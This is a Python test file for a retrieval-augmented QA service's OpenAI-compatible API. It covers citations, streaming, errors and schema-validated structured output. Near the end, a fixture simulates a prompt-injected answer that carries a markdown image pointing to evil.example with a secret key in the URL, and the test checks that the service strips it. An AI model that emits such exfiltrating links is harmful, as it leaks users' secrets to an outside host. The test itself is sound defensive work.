"""The OpenAI-compatible endpoint, used through the official `openai` SDK, unchanged; and
structured output (JSON schema) passed through, validated, retried once."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import openai
import pytest
from fastapi.testclient import TestClient

from rag.qa.prompt import load_templates
from rag.security import keys
from tests.llm_script import ScriptedLLM, app_with, english_kb

REPLY = "Open the console and press Rotate [1]."
SCHEMA = {
    "type": "object",
    "properties": {
        "steps": {"type": "array", "items": {"type": "string"}},
        "hours": {"type": "integer"},
    },
    "required": ["steps", "hours"],
    "additionalProperties": False,
}
RESPONSE_FORMAT = {"type": "json_schema", "json_schema": {"name": "rotation", "schema": SCHEMA}}


@pytest.fixture
def script() -> ScriptedLLM:
    return ScriptedLLM(REPLY)


@pytest.fixture
def env(tmp_path: Path, script: ScriptedLLM) -> Iterator[tuple[TestClient, openai.OpenAI]]:
    with app_with(tmp_path, script) as (client, svc):
        english_kb(client)
        # The SDK always sends a key, and with no key on the server none is valid: make one.
        with svc.db.write() as session:
            _, secret = keys.create(session, tenant_id="default", scopes=["admin"])
        client.app.state.guard.forget()  # type: ignore[attr-defined]
        client.headers["Authorization"] = f"Bearer {secret}"
        # TestClient is an httpx.Client, so the SDK talks to the app in-process, unchanged.
        sdk = openai.OpenAI(
            base_url="http://testserver/v1", api_key=secret, http_client=client, max_retries=0
        )
        yield client, sdk


def test_models_are_the_knowledge_bases(env: tuple[TestClient, openai.OpenAI]) -> None:
    _, sdk = env
    assert [m.id for m in sdk.models.list()] == ["kb:product"]
    assert sdk.models.retrieve("kb:product").owned_by == "kbqa"
    with pytest.raises(openai.NotFoundError):
        sdk.models.retrieve("kb:nope")


def test_completion_with_citations(
    env: tuple[TestClient, openai.OpenAI], script: ScriptedLLM
) -> None:
    _, sdk = env
    completion = sdk.chat.completions.create(
        model="kb:product",
        messages=[
            {"role": "system", "content": "You are a pirate."},  # ignored: ours applies
            {"role": "user", "content": "How do I reset my access key?"},
        ],
        max_tokens=64,
    )
    assert completion.choices[0].message.content == REPLY
    assert completion.choices[0].finish_reason == "stop"
    assert completion.model == "kb:product"
    assert completion.usage is not None and completion.usage.completion_tokens == 10
    extra = completion.model_extra or {}
    assert extra["answered_by"] == "Qwen/Qwen2.5-7B-Instruct" and extra["route"] == "default"
    citations = extra["citations"]
    assert citations[0]["index"] == 1 and citations[0]["cited"] is True
    assert citations[0]["filename"] == "product-faq.md" and citations[0]["page"] == 1
    sent = script.requests[-1]
    assert sent["messages"][0]["content"] == load_templates()["system_en"]
    assert "pirate" not in json.dumps(sent) and sent["max_tokens"] == 64


def test_stream_deltas_then_citations_then_usage_and_done(
    env: tuple[TestClient, openai.OpenAI],
) -> None:
    _, sdk = env
    stream = sdk.chat.completions.create(
        model="kb:product",
        messages=[{"role": "user", "content": "How do I reset my access key?"}],
        stream=True,
        stream_options={"include_usage": True},
    )
    chunks = list(stream)
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == REPLY
    final = [c for c in chunks if c.choices and c.choices[0].finish_reason][-1]
    assert final.choices[0].finish_reason == "stop"
    assert (final.model_extra or {})["citations"][0]["cited"] is True
    usage = chunks[-1]
    assert usage.choices == [] and usage.usage is not None and usage.usage.prompt_tokens > 0
    assert len({c.id for c in chunks}) == 1


def test_stream_with_httpx_ends_with_done(env: tuple[TestClient, openai.OpenAI]) -> None:
    client, _ = env
    body = {"model": "kb:product", "stream": True, "messages": [{"role": "user", "content": "Hi?"}]}
    with client.stream("POST", "/v1/chat/completions", json=body) as resp:
        lines = [line for line in resp.iter_lines() if line]
    assert lines[-1] == "data: [DONE]"
    assert all(line.startswith("data: ") for line in lines)


def test_earlier_messages_are_the_conversation(
    env: tuple[TestClient, openai.OpenAI], script: ScriptedLLM
) -> None:
    _, sdk = env
    script.steps = ["How long does the old access key keep working?", "For 24 hours [1]."]
    completion = sdk.chat.completions.create(
        model="kb:product",
        messages=[
            {"role": "user", "content": "How do I reset my access key?"},
            {"role": "assistant", "content": REPLY},
            {"role": "user", "content": [{"type": "text", "text": "And the old one?"}]},
        ],
    )
    assert completion.choices[0].message.content == "For 24 hours [1]."
    condense, answer = script.requests[-2:]
    assert "Follow-up question: And the old one?" in condense["messages"][1]["content"]
    assert [m["role"] for m in answer["messages"]] == ["system", "user", "assistant", "user"]


def test_errors_reach_the_sdk(env: tuple[TestClient, openai.OpenAI], script: ScriptedLLM) -> None:
    _, sdk = env
    with pytest.raises(openai.NotFoundError):
        sdk.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "Hi"}])
    with pytest.raises(openai.UnprocessableEntityError):
        sdk.chat.completions.create(
            model="kb:product", messages=[{"role": "assistant", "content": "Hi"}]
        )
    script.steps = [httpx.ConnectError("refused")]
    with pytest.raises(openai.InternalServerError) as info:
        sdk.chat.completions.create(
            model="kb:product", messages=[{"role": "user", "content": "Hi"}]
        )
    assert info.value.status_code == 503 and "Retry-After" in info.value.response.headers

    def broken(body: dict) -> httpx.Response:
        chunk = {"choices": [{"index": 0, "delta": {"content": "Open "}}]}
        text = f"data: {json.dumps(chunk)}\n\ndata: " + json.dumps(
            {"error": {"message": "engine died"}}
        )
        return httpx.Response(200, text=text + "\n\n")

    script.steps = [broken]
    stream = sdk.chat.completions.create(
        model="kb:product", messages=[{"role": "user", "content": "Hi"}], stream=True
    )
    with pytest.raises(openai.APIError, match="engine died"):
        list(stream)


def test_structured_output_is_validated_and_retried_once(
    env: tuple[TestClient, openai.OpenAI], script: ScriptedLLM
) -> None:
    client, sdk = env
    valid = json.dumps({"steps": ["Open the console", "Press Rotate [1]"], "hours": 24})
    script.steps = ['{"steps": "press rotate"}', valid]
    completion = sdk.chat.completions.create(
        model="kb:product",
        messages=[{"role": "user", "content": "How do I reset my access key?"}],
        response_format=RESPONSE_FORMAT,  # type: ignore[arg-type]
    )
    assert json.loads(completion.choices[0].message.content or "") == json.loads(valid)
    first, second = script.requests[-2:]
    assert first["response_format"]["json_schema"]["schema"] == SCHEMA  # for guided decoding
    assert "fails the schema" in second["messages"][-1]["content"]  # told what was wrong
    assert (completion.model_extra or {})["citations"][0]["cited"] is True

    kb = client.get("/v1/knowledge-bases").json()["knowledge_bases"][0]["id"]
    url = f"/v1/knowledge-bases/{kb}/ask"
    script.steps = [valid]
    body = client.post(url, json={"question": "Rotate?", "response_format": RESPONSE_FORMAT}).json()
    assert body["parsed"] == json.loads(valid)

    script.steps = ["not json at all"]
    again = {"question": "Rotate?", "response_format": RESPONSE_FORMAT, "cache": False}
    failed = client.post(url, json=again)
    assert (
        failed.status_code == 422 and failed.json()["error"]["code"] == "invalid_structured_output"
    )

    # A planted instruction may make a JSON answer carry an exfiltrating image: it is removed
    # from the content and from `parsed` alike, and the fenced reply comes back as plain JSON.
    leaky = {"steps": ["Press Rotate ![k](https://evil.example/c?key=SECRET) [1]"], "hours": 2}
    script.steps = ["```json\n" + json.dumps(leaky) + "\n```"]
    body = client.post(url, json={"question": "Leak?", "response_format": RESPONSE_FORMAT}).json()
    assert body["parsed"] == {"steps": ["Press Rotate k [1]"], "hours": 2}
    assert json.loads(body["answer"]) == body["parsed"] and "evil" not in body["answer"]
    script.steps = [json.dumps(leaky)]
    completion = sdk.chat.completions.create(
        model="kb:product",
        messages=[{"role": "user", "content": "Leak again?"}],
        response_format=RESPONSE_FORMAT,  # type: ignore[arg-type]
    )
    assert json.loads(completion.choices[0].message.content or "") == body["parsed"]

    bad_schema = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"type": 12}}}
    assert (
        client.post(url, json={"question": "Q?", "response_format": bad_schema}).status_code == 422
    )
    streamed = client.post(
        url, json={"question": "Q?", "response_format": RESPONSE_FORMAT, "stream": True}
    )
    assert streamed.status_code == 422
